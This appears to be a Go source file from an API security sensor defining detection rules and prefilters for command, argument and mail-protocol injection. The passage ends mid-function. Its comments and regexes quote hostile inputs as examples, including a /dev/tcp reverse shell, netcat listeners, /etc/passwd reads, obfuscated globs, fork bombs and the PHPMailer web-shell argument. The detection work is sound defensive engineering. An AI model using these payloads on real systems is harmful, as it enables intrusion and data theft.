package tier1

import (
	"iter"
	"path"
	"regexp"
	"strings"

	"github.com/apisensor/sensor/decoders"
	"github.com/apisensor/sensor/pipeline/alert"
	"github.com/apisensor/sensor/pipeline/detect/literals"
	"github.com/apisensor/sensor/pipeline/detect/normalize"
)

var ruleCmdi = rule{
	Rule:  detectRule("cmdi", "os-command-injection", owaspInjection, alert.Severity_SEVERITY_HIGH, alert.Confidence_CONFIDENCE_MEDIUM),
	title: "OS command injection",
}

// ruleMailCmd is SMTP, POP3 or IMAP command injection: a line break
// followed by a mail protocol command, in a value a back end writes into
// its session with a mail server.
var ruleMailCmd = rule{
	Rule:  detectRule("mail-command-injection", "mail-command-injection", owaspInjection, alert.Severity_SEVERITY_HIGH, alert.Confidence_CONFIDENCE_MEDIUM),
	title: "Mail protocol command injection",
}

// mailCmd finds a mail protocol command at the start of a line: SMTP's
// envelope and greeting commands, POP3's AUTH/APOP/RETR, and IMAP's tagged
// commands ("a001 EXAMINE INBOX": the tag needs a digit, or "I list …"
// in a message would match). mailCmdWeak holds the bare commands
// (DATA, QUIT, LIST 3), which count outside body fields only.
var (
	mailCmd = regexp.MustCompile(`[\r\n]\s*(?:mail\s+from\s*:\s*<|rcpt\s+to\s*:\s*<|(?:ehlo|helo)\s+[a-z0-9.-]+\s*(?:$|[\r\n])|auth\s+\S+\s+[a-z0-9+/]{8,}=*|apop\s+\S+\s+[0-9a-f]{32}|retr\s+\d+\s*(?:$|[\r\n])` +
		`|[a-z]{1,4}\d{1,4}\s+(?:uid\s+)?(?:select|examine|list|lsub|store|search|fetch|login|authenticate|status|create|delete|rename|copy|append|capability|logout)\s+(?:\S+\s*)*(?:$|[\r\n]))`)
	// IMAP STORE and FETCH with their data items are unmistakable
	// whatever the tag ("d store 2 +flags (\deleted)", "q fetch 1:*
	// (body[])"): a flag list of system flags, or a sign before FLAGS (a
	// '+' sent in a query string arrives as a space), and a parenthesised
	// item list, which a sentence ("we store 2 flags (…)") has not.
	mailIMAPItems = regexp.MustCompile(`[\r\n]\s*[a-z0-9.]{1,8}\s+(?:uid\s+)?(?:store\s+[\d:,*]+\s+(?:[+-]\s*flags(?:\.silent)?\s+\(|[+-]?\s*flags(?:\.silent)?\s+\(\s*\\[a-z])` +
		`|fetch\s+[\d:,*]+\s+(?:\(?\s*body(?:\.peek)?\[|\(\s*(?:rfc822|bodystructure|envelope)\b))`)
	mailCmdWeak = regexp.MustCompile(`[\r\n]\s*(?:data|quit|rset|noop|help\s+\S+|list\s+\d+|top\s+\d+\s+\d+|stat|uidl)\s*(?:$|[\r\n])`)
)

// ruleArgInjection is argument injection: a value that a back end passes
// to a program as an argument (a repository URL to git, a file name to
// tar, an address to sendmail, a host to ssh) and that is an option that
// runs a command or writes a file of the sender's choosing. No separator
// is needed, so the command injection checks do not see it.
var ruleArgInjection = rule{
	Rule:  detectRule("argument-injection", "os-command-injection", owaspInjection, alert.Severity_SEVERITY_HIGH, alert.Confidence_CONFIDENCE_MEDIUM),
	title: "Argument injection",
}

// argInjection finds the options of common programs that run a command or
// write where the sender says, at the start of the value (after quotes) or
// of a URL's authority (ssh://-oProxyCommand=…): ssh's ProxyCommand and
// LocalCommand, git's upload-pack, receive-pack and command-running
// configuration, tar's checkpoint actions and filters, rsync's remote
// shell, zip's unzip command, wget's and curl's uploads of local files,
// find's -exec, sendmail's queue directory, and Chromium's launcher
// prefixes (Puppeteer and Selenium arguments); anywhere, sendmail's log
// file written into the web root (the PHPMailer CVE-2016-10033:
// "a\" -X/var/www/shell.php b"@x.com). Documentation that quotes these
// options has words before them.
var argInjection = regexp.MustCompile(`(?:^['"\s]*|://)(?:-o\s*(?:proxycommand|localcommand|permitlocalcommand)(?:\s*=|\s+\S)` +
	`|--(?:upload-pack|receive-pack)(?:\s*=|\s+\S)|-u\s*['"]?(?:/|sh\b|bash\b|touch\b|curl\b|wget\b)` +
	`|(?:-c\s*|--config[=\s]\s*)(?:core\.(?:sshcommand|pager|editor|fsmonitor|hookspath|gitproxy|askpass)|credential\.helper|alias\.[\w-]+)\s*=` +
	`|--checkpoint-action\s*=\s*exec|--(?:to-command|use-compress-program|rsh|rsync-path|unzip-command|use-askpass|gpu-launcher|renderer-cmd-prefix|utility-cmd-prefix|zygote-cmd-prefix|ppapi-plugin-launcher|browser-subprocess-path)\s*=` +
	`|-tt\s*=?\s*['"]?(?:/|sh\b|bash\b|id\b|touch\b|curl\b|wget\b|nc\b)|--(?:post-file|body-file)\s*=\s*/|-oqueuedirectory\s*=` +
	`|-exec(?:dir)?\s+['"]?(?:/\S+|sh|bash|id|whoami|nc|curl|wget|python\d?|perl|ruby|php|node|touch|cat|cp|mv|rm|tee|echo|chmod|busybox)\b.*[;+]\s*$|-x\s*/\S*\.(?:php\d?|phtml|jspx?|aspx?)\b)` +
	`|\s-x\s*/\S*\.(?:php\d?|phtml|jspx?|aspx?)\b[^@]*@`)

// argInjectionWords are literals one of which every argInjection match
// holds, for the family's prefilter (in any case).
var argInjectionWords = literals.MustNewFold([]string{"proxycommand", "localcommand", "upload-pack", "receive-pack",
	"-u", "core.", "checkpoint-action", "to-command", "use-compress-program", "rsh", "rsync-path", "unzip-command",
	"use-askpass", "launcher", "cmd-prefix", "subprocess-path", "-tt", "post-file", "body-file", "queuedirectory",
	"-exec", "-x", "credential.", "alias."})

// argInjectionHint reports whether s may hold an argInjection match: a
// value that starts with a dash (after blanks and quotes) or has one after
// "://", and one of argInjectionWords; or a dash and an x after a blank
// (sendmail's -X). Ids, dates and sort keys ("-created_at" has none of the
// words) cost a trim and a search.
func argInjectionHint(s string) bool {
	i := 0
	for i < len(s) && (s[i] == ' ' || s[i] == '\'' || s[i] == '"' || '\t' <= s[i] && s[i] <= '\r') {
		i++
	}
	if i < len(s) && s[i] == '-' || strings.Contains(s, "://-") {
		if literals.Find(argInjectionWords, s) != 0 {
			return true
		}
	}
	for i := strings.IndexByte(s, '-'); i > 0; {
		if i+1 < len(s) && s[i+1]|0x20 == 'x' && reSpace(s[i-1]) {
			return true
		}
		j := strings.IndexByte(s[i+1:], '-')
		if j < 0 {
			break
		}
		i += 1 + j
	}
	return false
}

var cmdiFamily = family{
	name:   "cmdi",
	values: true,
	// The bytes after $ are registered for pre: a space lets in command
	// lines that need no separator (cat /etc/passwd, IF EXIST, cmd /c)
	// when the value starts with a command word; the others, globs, brace
	// expansion, process substitution and history expansion.
	trigger: ";|&\n\r`$ ?*{[/(-",
	match:   matchCmdi,
	pre: func(_ *decoders.Param, in *input) bool {
		return in.classes&cmdiMask != 0 || in.mayChange() || in.has(' ') && cmdWordStart(in.best) ||
			// Globs in a path and brace expansion need no separator.
			in.has('/') && (in.has('?') || in.has('*') || in.has('[')) || in.has('{') && strings.IndexByte(in.best, ',') >= 0 ||
			// Process substitution (<(cmd), >(tee log), pi<()ng), and
			// history expansion (!-1!-2).
			in.has('(') && (strings.Contains(in.best, "<(") || strings.Contains(in.best, ">(")) ||
			in.has('-') && strings.Contains(in.best, "!-") ||
			// A Bash function definition (Shellshock).
			in.has('{') && in.has('(') && strings.HasPrefix(strings.TrimLeft(in.best, " \t"), "(") ||
			// An option (argument injection).
			in.has('-') && argInjectionHint(in.best)
	},
}

// cmdiMask is the classes of the separators and substitution bytes.
var cmdiMask classSet

func init() { cmdiMask = classMask(";|&\n\r`$") }

// cmdWordStart reports whether s starts (after spaces, quotes and a /bin/
// path) with a known command or a cmd.exe keyword, in any case.
func cmdWordStart(s string) bool {
	for s != "" && (s[0] == ' ' || s[0] == '\t' || s[0] == '\'' || s[0] == '"') {
		s = s[1:]
	}
	s = trimBinDir(s)
	var b [16]byte
	n, i := 0, 0
	for ; i < len(s) && n < len(b); i++ {
		c := s[i]
		if 'A' <= c && c <= 'Z' {
			c += 'a' - 'A'
		}
		if (c == '\'' || c == '"') && n > 0 {
			continue // quote splitting: ti''me, c'a't
		}
		if !('a' <= c && c <= 'z' || '0' <= c && c <= '9' || c == '.') {
			break
		}
		b[n] = c
		n++
	}
	w := b[:n]
	if string(w) == "invoke" && i < len(s) && s[i] == '-' {
		return true // PowerShell Invoke-Expression, Invoke-WebRequest
	}
	return literals.Has(cmdStartWords, canonCmd(string(w)))
}

// cmdStartWords are the words cmdWordStart looks for: cmdFile, cmdExec,
// cmdPrefix and cmdStartOnly in one set, most other words turned away
// before a map is read.
var cmdStartWords = literals.NewWordsOf(cmdFile, cmdExec, cmdPrefix, cmdStartOnly)

// trimBinDir returns s without the directory of system binaries it starts
// with (/bin/cat is cat).
func trimBinDir(s string) string {
	if s == "" || s[0] != '/' {
		return s // each starts with a slash
	}
	for _, pre := range binDirs {
		s = strings.TrimPrefix(s, pre)
	}
	return s
}

var binDirs = []string{"/usr/local/bin/", "/usr/bin/", "/usr/sbin/", "/bin/", "/sbin/"}

// cmdStartOnly holds words that start the shell constructs of
// shellConstruct and aliasCmd without a separator (alias a=curl, c99
// -wrapper sh,-c,…), so that pre lets such values in.
var cmdStartOnly = map[string]bool{"alias": true, "c89": true, "c99": true, "cc": true, "gcc": true,
	"clang": true, "gdb": true}

// cmdVersioned holds the interpreters whose binaries carry a version
// (python3.10, php8.2, perl5.36): canonCmd drops it. The version needs a
// dot: node2 is a name.
var cmdVersioned = map[string]bool{"python": true, "perl": true, "ruby": true, "php": true, "node": true, "lua": true}

// canonCmd returns a command name without an interpreter's version suffix
// (python3.10 is python), or name itself.
func canonCmd(name string) string {
	i := len(name)
	for i > 0 && ('0' <= name[i-1] && name[i-1] <= '9' || name[i-1] == '.') {
		i--
	}
	if i < len(name) && cmdVersioned[name[:i]] && strings.IndexByte(name[i:], '.') >= 0 {
		return name[:i]
	}
	return name
}

// knownCmd reports a command of the lists, after canonCmd.
func knownCmd(c string) bool {
	return cmdAlone[c] || cmdFile[c] || cmdExec[c] || adminCmd(c)
}

// cmdAdmin holds system administration, deployment and package tools that
// are no English word: after a separator they are a command with or
// without arguments (;visudo, &aptitude, ; ansible all -m ping).
var cmdAdmin = map[string]bool{
	"ansible": true, "visudo": true, "sudoedit": true, "cscli": true, "rmt": true, "ssh-copy-id": true,
	"ssh-keygen": true, "aptitude": true, "apt-get": true, "yum": true, "dnf": true, "dpkg": true, "systemctl": true,
	"iptables": true, "ip6tables": true, "usermod": true, "userdel": true, "groupadd": true, "chpasswd": true,
	"setcap": true, "setfacl": true, "insmod": true, "rmmod": true, "modprobe": true, "mkfs": true, "fdisk": true,
	"shutdown": true, "reboot": true, "poweroff": true, "killall": true, "pkill": true,
	// Cluster and container tools: reading the cluster's secrets, and
	// entering the node's namespaces from a container (nsenter -t 1).
	"kubectl": true, "kubeadm": true, "crictl": true, "etcdctl": true, "nsenter": true, "podman": true, "runc": true,
	"nerdctl": true, "k3s": true, "microk8s": true,
}

// winAdmin holds Windows administration tools, which take /switches
// glued to their name (bcdboot/r).
var winAdmin = map[string]bool{
	"bcdboot": true, "bcdedit": true, "vssadmin": true, "wevtutil": true, "diskpart": true, "netsh": true,
	"taskkill": true, "icacls": true, "takeown": true, "wbadmin": true, "fsutil": true, "bootrec": true,
}

// adminCmd reports a tool of cmdAdmin or winAdmin, or of a family of
// them named by prefix (ansible-playbook, chef-client, rmt-tar).
func adminCmd(c string) bool {
	if cmdAdmin[c] || winAdmin[c] {
		return true
	}
	for _, pre := range []string{"ansible-", "chef-", "rmt-"} {
		if len(c) > len(pre) && strings.HasPrefix(c, pre) {
			return true
		}
	}
	return false
}

// cmdSubstOnly holds the commands that count only substituted:
// $(printf '\x69\x64') runs what it spells, while a value that starts with
// printf is shell code quoted in prose.
var cmdSubstOnly = map[string]bool{"printf": true}

// cmdPrefix holds the words that start a command line without being a
// command of the lists: cmd.exe's FOR and IF, and the prefix commands.
var cmdPrefix = map[string]bool{"for": true, "if": true, "time": true, "sudo": true, "nohup": true,
	"strace": true, "ltrace": true, "nice": true, "watch": true, "stdbuf": true, "doas": true}

// cmdNet holds the commands that contact a host named by their argument.
var cmdNet = map[string]bool{"curl": true, "wget": true, "nc": true, "ncat": true, "netcat": true, "ping": true,
	"nslookup": true, "dig": true, "host": true, "telnet": true, "ssh": true, "ftp": true, "tftp": true, "socat": true, "nmap": true}

// hostArg reports an argument that is a host name or an address
// (letters, digits, dots and dashes, with a dot and a final label of
// letters, or a dotted quad).
func hostArg(a string) bool {
	a = strings.TrimSuffix(a, "/")
	dot := strings.LastIndexByte(a, '.')
	if dot <= 0 || dot == len(a)-1 {
		return false
	}
	for i := 0; i < len(a); i++ {
		if c := a[i]; !(isAlnum(c) || c == '.' || c == '-' || c == ':') {
			return false
		}
	}
	return true
}

// systemDir reports an argument naming a system directory or a file in one.
func systemDir(a string) bool {
	for _, d := range []string{"/etc", "/bin", "/sbin", "/usr/bin", "/proc", "/dev", "/root", "/var/log", "/boot"} {
		if a == d || strings.HasPrefix(a, d+"/") {
			return true
		}
	}
	return a == "/"
}

// cmdSep finds a command after a shell separator or inside a substitution:
// group 1 is the separator, group 2 the command (path prefix stripped),
// group 3 the rest of the line. A name may have dashes (ssh-copy-id) and
// an interpreter's version (python3.10).
var cmdSep = regexp.MustCompile("(;|&&?|\\|\\|?|[\\r\\n]+|\\$\\(|`)[ \\r\\n]*(?:[a-z]:)?(?:/usr)?(?:/s?bin/)?([a-z][a-z0-9]*(?:-[a-z0-9]+)*(?:\\.\\d+)*(?:\\.exe)?)([^;&|\\r\\n`]*)")

// Commands that are a finding on their own: recon commands that take no
// argument and are not English words.
var cmdAlone = map[string]bool{
	"id": true, "whoami": true, "uname": true, "ifconfig": true, "ipconfig": true, "hostname": true,
	"systeminfo": true, "netstat": true, "pwd": true, "ls": true, "dir": true, "tasklist": true, "env": true,
	"printenv": true, "ps": true,
}

// cmdReconSep holds the recon commands of cmdAlone that are no field
// name or word, so that one directly followed by a separator at the start
// of a value is a command line (whoami;…), where "id;name" is a list.
var cmdReconSep = map[string]bool{"whoami": true, "uname": true, "ifconfig": true, "ipconfig": true,
	"systeminfo": true, "netstat": true, "tasklist": true, "printenv": true}

// Commands that read a file: a finding with a path argument.
var cmdFile = map[string]bool{
	"cat": true, "head": true, "tail": true, "more": true, "less": true, "type": true, "nl": true,
	"tac": true, "od": true, "xxd": true, "base64": true, "strings": true, "ls": true, "dir": true,
	"rm": true, "chmod": true, "chown": true, "cp": true, "mv": true, "touch": true, "grep": true,
}

// Commands that fetch, run or wait: a finding with any argument.
var cmdExec = map[string]bool{
	"wget": true, "curl": true, "nc": true, "ncat": true, "netcat": true, "bash": true, "sh": true,
	"zsh": true, "ksh": true, "dash": true, "python": true, "python3": true, "python2": true,
	"perl": true, "ruby": true, "php": true, "powershell": true, "pwsh": true, "cmd": true,
	"cmd.exe": true, "powershell.exe": true, "nslookup": true, "ping": true, "telnet": true,
	"busybox": true, "certutil": true, "bitsadmin": true, "sleep": true, "mkfifo": true, "echo": true,
	"sudo": true, "crontab": true, "useradd": true, "net": true, "dig": true, "host": true,
	"timeout": true, "expr": true, "eval": true, "exec": true, "xterm": true, "socat": true,
	// Windows binaries that run code or change the system (LOLBins).
	"regedit": true, "mshta": true, "rundll32": true, "regsvr32": true, "wmic": true, "schtasks": true,
	"cscript": true, "wscript": true, "msiexec": true, "reg": true,
	// Unix programs that run a command given as an argument, fetch, or
	// read and decode files.
	"find": true, "xargs": true, "nohup": true, "flock": true, "cpulimit": true, "awk": true, "gawk": true,
	"gunzip": true, "zcat": true, "zstdcat": true, "unxz": true, "xz": true, "base32": true, "openssl": true,
	"node": true, "nodejs": true, "lua": true, "irb": true, "vim": true, "vi": true, "ssh": true, "scp": true,
	"ftp": true, "tftp": true, "tcpdump": true, "nmap": true, "chattr": true, "passwd": true,
}

// Arguments that make a command unmistakable wherever it appears.
var cmdStrongArg = regexp.MustCompile(`^\s*(?:-[a-z]+\s+)*(?:/etc/|/proc/|/dev/tcp/|/bin/|/tmp/|c:\\|%[a-z]+%|\$[a-z({])|^\s+-(?:i|e|c|enc|encodedcommand|nop)\b|^\s+\d+\s*$|^\s+(?:-[a-z]\s+\d+\s+)?\d{1,3}(?:\.\d{1,3}){3}|^\s+https?://|^\s+/c\b`)

// winShell finds cmd.exe and PowerShell forms no text but a Windows
// command has: a FOR loop over a %variable (FOR /F … %i IN (…) DO), IF
// EXIST/DEFINED/ERRORLEVEL tests and comparisons (==, EQU, GTR: a space
// around == or a %variable% is Windows, not prose), cmd /c, and PowerShell run with an encoded
// or inline command or downloading code (-enc, iex, DownloadString). A
// batch file's FOR may name its variable %% alone when its DO follows; IF's
// /i switch may be glued to it (if/i a==b).
var winShell = regexp.MustCompile(`(?:^|[\s;&|('"@])for\s+(?:/[dlrf]\s*(?:"[^"]*"\s*|[a-z]:\\\S*\s+|/[dlrf]\s*)*)?(?:%%?[^\s%]{1,24}\s+in\s*\(|%%\s+in\s*\([^)]*\)\s*do\s)` +
	`|(?:^|[\s;&|('"@])if(?:\s*/i)?\s+(?:not\s+)?(?:(?:exist|defined|errorlevel|cmdextversion)\s+\S|\S+==\S|\S*%\S*\s*==|\(?\s*\S+\s+(?:equ|neq|lss|leq|gtr|geq)\s+\S)` +
	`|^\s*if\s*(?:/i\s*)?(?:"[^"]{0,30}"|\[[^\]]{0,30}\])\s*==\s*(?:"[^"]{0,30}"|\[[^\]]{0,30}\])\s+@?[a-z]` +
	`|(?:^|[\s;&|('"@])cmd(?:\.exe)?\s+/[ckr]\b` +
	`|powershell(?:\.exe)?\s+(?:.{0,40}\s)?-(?:e|enc|encodedcommand|c|command|nop|noprofile|w|windowstyle|ep|executionpolicy|inputformat)\b` +
	`|\biex\s*\(|invoke-expression|\.downloadstring\s*\(|new-object\s+(?:system\.)?net\.webclient`)

// winHint is winShell's prefilter: the words of its forms, with what each
// needs around it (a FOR loop's %variable, an IF test's keyword or
// comparison), so that prose with "for" and "if" skips the regexp.
func winHint(s string) bool {
	if strings.Contains(s, "for") && strings.IndexByte(s, '%') >= 0 {
		return true
	}
	if (strings.Contains(s, "if ") || strings.Contains(s, "if/i")) && anyOf(s, ifHints) {
		return true
	}
	return strings.Contains(s, "cmd") || strings.Contains(s, "powershell") || strings.Contains(s, "iex") ||
		strings.Contains(s, "invoke-expression") || strings.Contains(s, "downloadstring") || strings.Contains(s, "webclient")
}

var ifHints = []string{"exist", "defined", "errorlevel", "cmdextversion", "==", " equ ", " neq ", " lss ", " leq ", " gtr ", " geq "}

// shellConstruct finds shell code that is not a plain command: a fork bomb
// (a function that pipes into itself in the background), piping or
// here-stringing text into a shell (…| sh, base64 -d|bash), a brace
// expansion that spells a command and its argument ({cat,/etc/passwd}), and
// path globs that hide a binary's or a system file's name (/???/??t,
// /et*/*wd, /etc/[p]asswd, /bi[n]/bash), process substitution (<(cmd)) and
// arithmetic expansion ($((…))).
var shellConstruct = []struct {
	hint func(s string) bool
	re   *regexp.Regexp
}{
	{func(s string) bool { return strings.Contains(s, "()") }, regexp.MustCompile(`\(\)\s*\{[^}]{0,20}\|[^}]{0,20}&\s*\}`)},
	{func(s string) bool { return strings.IndexByte(s, '|') >= 0 }, regexp.MustCompile(`\|\s*(?:/bin/)?(?:ba|z|k|da)?sh\s*(?:$|[;&|#\n\x60])`)},
	{func(s string) bool { return strings.Contains(s, "<<<") }, regexp.MustCompile(`<<<\s*['"]?[a-z]`)},
	{func(s string) bool { return strings.IndexByte(s, '{') >= 0 && strings.IndexByte(s, ',') >= 0 }, braceList},
	{globHint, regexp.MustCompile(`(?:^|[\s;|&<>={,])/(?:\?{2,4}|[a-z]{1,3}[?*][a-z?*]{0,3})/[a-z?*\[\]]*[?*\[]` +
		`|(?:^|[\s;|&<>=])/(?:[a-z]*\[[!^]?[a-z](?:-[a-z])?[a-z]*\][a-z]*(?:/|$)|(?:etc|bin|usr|sbin|dev|proc|tmp|var)/(?:[a-z]*/)?[a-z]*\[[!^]?[a-z](?:-[a-z])?[a-z]*\])`)},
	// An alias defined after a separator (;alias a=b): aliasCmd
	// takes the ones that start a value.
	{func(s string) bool { return strings.Contains(s, "alias") }, regexp.MustCompile(`[;&|\n]\s*alias\s+(?:[-+]\w+\+?\s+)*['"]?[\w.-]+['"]?=`)},
	// A command kept in a variable and run through it
	// (a=nc&&$a -nlvp 555, c=cat;$c /etc/passwd).
	{func(s string) bool { return strings.IndexByte(s, '=') >= 0 && strings.IndexByte(s, '$') >= 0 },
		regexp.MustCompile(`(?:^|[;&|]\s*)[a-z_]\w*=\S*\s*(?:&&|;|\|\|)\s*(?:[a-z_]\w*=\S*\s*(?:&&|;)\s*)*\$\{?[a-z_]\w*\}?(?:\s|$)`)},
	// Process substitution starts the value or a command, or is an
	// argument of one (bash <(curl …)); in prose it is quoted among words.
	{func(s string) bool {
		return strings.Contains(s, "<(") || strings.Contains(s, ">(") || strings.Contains(s, "$((")
	},
		regexp.MustCompile(`(?:^|[;|&])\s*(?:[a-z0-9._/-]+\s+){0,2}[<>]\(\s*[a-z]{2,}[^)]*\)|\$\(\(`)},
	// Bash reverse shell through a /dev/tcp path held in a variable
	// (d=/dev&&sh 0>$d/tcp/1.2.3.4/777).
	{func(s string) bool { return strings.Contains(s, "/tcp/") }, regexp.MustCompile(`/tcp/\d{1,3}(?:\.\d{1,3}){3}/\d{1,5}`)},
	// The login shell run through its variable ($SHELL -c "cmd", $BASH,
	// $0).
	{func(s string) bool {
		return strings.Contains(s, "shell") || strings.Contains(s, "bash") || strings.Contains(s, "$0")
	},
		regexp.MustCompile(`\$\{?(?:shell|bash|0)\}?\s+-c\b`)},
	// Brace expansion with an empty first element, which runs the words
	// that follow as a command ({,ifconfig}, {,cd,/etc,}).
	{func(s string) bool { return strings.Contains(s, "{,") }, regexp.MustCompile(`(?:^|[\s;|&])\{,[^{}\s,]+(?:,[^{}\s]*)?\}`)},
	// Fork bombs with a named function (f(){ f & f; };f).
	{func(s string) bool { return strings.Contains(s, "(){") || strings.Contains(s, "() {") },
		regexp.MustCompile(`\w\(\)\s*\{\s*\w+(?:\(\))?\s*[|&]\s*\w+(?:\(\))?\s*;?\s*\}\s*;\s*\w`)},
	// PowerShell download and execution cmdlets and their aliases.
	{func(s string) bool { return strings.Contains(s, "invoke-") || strings.Contains(s, "iw") },
		regexp.MustCompile(`\binvoke-(?:webrequest|expression|restmethod|wmimethod)\b|(?:^|[;&|]\s*)(?:iwr|iwmi)\s+(?:https?://|-\w)`)},
	// SQLite shell dot-commands that run a program (;.shell nc …).
	// Its dot-commands that dump the database or read and write files
	// count on a line of their own after the statement (;\n.databases).
	{dotAfterSemicolon,
		regexp.MustCompile(`;\s*(?:\\n)?\s*\.\s*(?:\\?['"])?(?:shell|system|sh)\s+\w` +
			`|;\s*(?:\\n|[\r\n])+\s*\.(?:databases|tables|schema|fullschema|dump|dbinfo|indexes|import|output|once|read|load|open|backup|restore|save)(?:\s|$)`)},
	// GTFOBins escapes that run a shell through a compiler or debugger
	// (c89 -wrapper sh,-c,id; gdb -ex '!id').
	{func(s string) bool { return strings.Contains(s, "-wrapper") || strings.Contains(s, "-ex") },
		regexp.MustCompile(`-wrapper\s+(?:/bin/)?(?:ba)?sh,-c,|\bgdb\s+(?:-\w+\s+)*-ex\s+['"]?\\?!`)},
	// A binary's name or a system file's name hidden by a glob in its
	// last segment (;/bin/ca? /et*/passwd).
	{globHint, regexp.MustCompile(`(?:^|[\s;|&<>=])/(?:usr/)?s?bin/[a-z]{1,6}[?*]|/[a-z]{1,3}[?*]+[a-z]{0,3}/(?:passwd|shadow|hosts|group|issue)\b` +
		`|(?:^|[\s;|&<>=])/(?:etc|bin|sbin|dev|proc)/[a-z]*[?*][a-z?*]*(?:\s|$|/)`)},
	// A command spelled by concatenating one-letter variables
	// (c1=c;c2=a;c3=t;$c1$c2$c3).
	{func(s string) bool { return strings.Count(s, "$") >= 3 },
		regexp.MustCompile(`(?:^|[\s;|&])(?:\$\{?[a-z_]\w{0,4}\}?){3,}`)},
	// Making a dropped file executable (;chmod +x evil.php; in a query
	// string the '+' arrives as a space).
	{func(s string) bool { return strings.Contains(s, "chmod") },
		regexp.MustCompile(`(?:^|[;&|]\s*)chmod\s+(?:[ugoa]*[+=][rwxst]+|[0-7]{3,4})\s+\S|[;&|]\s*chmod\s\s[rwxst]{1,3}\s+\S`)},
	// Walking to a system directory in steps to avoid its path
	// (cd /;cd etc;…).
	{func(s string) bool { return strings.Contains(s, "cd /") },
		regexp.MustCompile(`\bcd\s+/\s*;\s*cd\s+(?:etc|bin|tmp|var|root)\b`)},
	// Bash's legacy arithmetic expansion ($[2+2]): JSONPath's $[0] and
	// MongoDB's $[] and $[elem] have no operator between numbers. In a
	// query string a '+' arrives as a space.
	{func(s string) bool { return strings.Contains(s, "$[") },
		regexp.MustCompile(`\$\[\s*\d+(?:\s*[-+*/%^&|<>]+\s*\d+|\s+\d+)+\s*\]`)},
	// A brace expansion whose only word is a glob of a binary's path
	// ({/?s?/?i?/c?t,} runs /usr/bin/cat): the empty alternative is there
	// to make a brace of it.
	{func(s string) bool { return strings.Contains(s, ",}") },
		regexp.MustCompile(`(?:^|[\s;|&])\{/[^{}\s,]*[?*][^{}\s,]*,\}`)},
	// One character sliced out of a variable to stand for a slash
	// before a system directory (cat${HOME:0:1}etc${HOME:0:1}passwd).
	{func(s string) bool { return strings.Contains(s, ":1}") },
		regexp.MustCompile(`\$\{[a-z_]\w*:\d+:1\}(?:etc|bin|usr|sbin|tmp|dev|proc|var|root|home)\b`)},
	// Two history expansions run the commands of earlier lines (!-1!-2);
	// one alone (!1, !!) is too common in text.
	{func(s string) bool { return strings.Contains(s, "!-") },
		regexp.MustCompile(`(?:^|[\s;&|])!-\d{1,3}!-?\d{1,3}(?:$|[\s;&|])`)},
}

// aliasDef is an alias definition at the start of a value; group 1 holds
// its flags, group 2 the aliased command line.
var aliasDef = regexp.MustCompile(`^\s*alias\s+((?:[-+]\w+\+?\s+)*)['"]?[\w.-]+['"]?=('[^']*'|"[^"]*"|[^\s;&|]+)`)

// aliasCmd returns an alias definition that starts the value and is shell
// code, or "": one with flags (alias -g a=b), or one that gives a known
// command another name to hide it from filters (alias a=curl, alias
// x='c${u}url'). A shell profile's aliases add options (alias ll='ls -la'),
// and "alias name=value" is how a manual puts it.
func aliasCmd(s string) string {
	if !strings.Contains(s, "alias") {
		return ""
	}
	m := aliasDef.FindStringSubmatch(s)
	if m == nil {
		return ""
	}
	if m[1] != "" {
		return m[0]
	}
	c := shellNoise.Replace(dropWordVars(m[2]))
	c = trimBinDir(c)
	if c == "" || strings.ContainsAny(c, " \t") || !knownCmd(canonCmd(c)) {
		return ""
	}
	return m[0]
}

// braceList is a brace expansion that spells a command and its arguments
// ({cat,/etc/passwd}, {nc,-nlvp,777}).
var braceList = regexp.MustCompile(`\{(?:cat|ls|id|nc|wget|curl|ping|whoami|uname|ifconfig|echo|sh|bash|rm|cp|mv),[^{}\s]*\}`)

// globHint is the glob pattern's prefilter: a wildcard or a bracket next
// to a slash or inside a path segment.
func globHint(s string) bool {
	return strings.Contains(s, "/?") || strings.Contains(s, "?/") || strings.Contains(s, "/*") ||
		strings.Contains(s, "*/") || strings.IndexByte(s, '[') >= 0 && strings.IndexByte(s, '/') >= 0
}

// matchShellConstruct returns the first shellConstruct match in s, or "".
func matchShellConstruct(s string) string {
	for _, c := range shellConstruct {
		if c.hint(s) {
			if m := c.re.FindString(s); m != "" {
				return m
			}
		}
	}
	return ""
}

// cmdAtStart reports a value that is a command line by itself: a known
// command at the start of the value (after an optional /bin/ path) with an
// argument that makes it unmistakable (a system path, a flag before a
// target, a URL). "cat toys" and "curl hair products" are words; "cat
// /etc/passwd" and "wget -q http://…" are not.
func cmdAtStart(p *decoders.Param, s string, report reportFunc) bool {
	t := strings.TrimLeft(s, " \t'\"")
	line, _, _ := strings.Cut(t, "\n")
	w := trimBinDir(line)
	k := 0
	for k < len(w) && ('a' <= w[k] && w[k] <= 'z' || '0' <= w[k] && w[k] <= '9' || w[k] == '.' && k > 0) {
		k++
	}
	cmd, rest := canonCmd(w[:k]), w[k:]
	prefixed := false
	if cmdPrefix[cmd] && cmd != "for" && cmd != "if" {
		// A prefix command: look at the one it runs.
		r := strings.TrimLeft(rest, " ")
		j := 0
		for j < len(r) && 'a' <= r[j] && r[j] <= 'z' {
			j++
		}
		cmd, rest, prefixed = r[:j], r[j:], true
	}
	if !prefixed && cmdReconSep[cmd] && rest != "" && strings.IndexByte(";|&`", rest[0]) >= 0 {
		// "whoami;…": a recon command that ends where a separator
		// starts the next one.
		report(&ruleCmdi, "command line "+snippet(strings.TrimSpace(line)))
		return true
	}
	if prefixed && (cmdAlone[cmd] || cmd == "who") && strings.TrimSpace(rest) == "" {
		// "time ifconfig", "strace id": a recon command run through a
		// prefix is no sentence.
		report(&ruleCmdi, "command line "+snippet(strings.TrimSpace(line)))
		return true
	}
	if cmd == "" || !(cmdFile[cmd] || cmdExec[cmd]) || rest == "" || rest[0] != ' ' {
		return false
	}
	if inBody(p) && strings.Count(line, " ") > 12 {
		return false // a sentence, not a command line
	}
	// In a body field, where scripts and notes are common, only a value
	// that is one command line counts.
	oneLine := !inBody(p) || !strings.ContainsAny(strings.TrimRight(t, " \r\n"), "\r\n")
	strong := cmdStrongArg.MatchString(rest) || cmdReverseShell.MatchString(rest)
	if !strong && cmdExec[cmd] {
		// A flag followed by a target: "nc -lvp 4444", "curl -o x http://".
		f := strings.Fields(rest)
		strong = len(f) >= 2 && strings.HasPrefix(f[0], "-") && len(f[0]) > 1 && oneLine
	}
	if !strong && oneLine {
		// A file command on an absolute path ("cat /path/file.gz"), any
		// command on a system directory ("find /etc -name …"), a network
		// command on a host name ("curl evil.example").
		f := strings.Fields(rest)
		for _, a := range f {
			if strings.HasPrefix(a, "-") {
				continue
			}
			switch {
			case cmdFile[cmd]:
